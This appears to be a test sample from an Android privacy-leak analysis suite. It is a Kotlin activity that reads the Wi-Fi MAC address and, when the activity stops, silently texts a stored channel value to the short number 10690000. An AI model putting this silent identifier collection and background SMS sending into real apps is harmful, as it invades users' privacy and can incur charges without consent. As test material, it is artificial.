package cn.privlens.suite.kproperty_cache_other

import android.app.Activity
import android.content.Context
import android.net.wifi.WifiManager
import android.os.Bundle
import android.telephony.SmsManager

class Main : Activity() {
    override fun onCreate(state: Bundle?) {
        super.onCreate(state)
        val wifi = getSystemService(Context.WIFI_SERVICE) as WifiManager
        Device.mac = wifi.connectionInfo.macAddress ?: "none"
        Device.channel = "beta"
    }

    override fun onStop() {
        super.onStop()
        SmsManager.getDefault().sendTextMessage("10690000", null, Device.channel, null, null)
    }
}
